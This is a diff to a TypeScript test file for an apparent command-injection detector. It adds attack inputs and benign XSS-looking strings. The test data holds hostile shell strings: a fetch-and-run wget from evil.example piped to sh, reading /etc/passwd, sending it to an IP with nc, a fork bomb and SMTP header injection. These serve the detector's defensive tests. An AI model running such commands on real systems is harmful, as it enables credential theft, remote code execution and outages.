@@ -38,9 +38,15 @@ const ATTACKS: Array<[string, string]> = [
   ['x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>', 'ST-RCE-009'],
   [':(){ :|:& };:', 'ST-RCE-010'],
   ["x'; wget http://evil.example/x.sh -O- | sh; '", 'ST-RCE-005'],
+  // A redirection before the command: the command is still found behind its file.
+  ['</dev/null cat /etc/passwd', 'ST-RCE-008'],
+  ['; </etc/passwd nc 10.0.0.1 4444', 'ST-RCE-001'],
 ];
 
 const BENIGN = [
+  // XSS, not RCE: `</script>` is a redirection from the file /script, not a run of `script`.
+  '<script>alert(1)</script>',
+  '</script>',
   'cat and dog',
   "I'll ping you | ok",
   'more info; find the best',
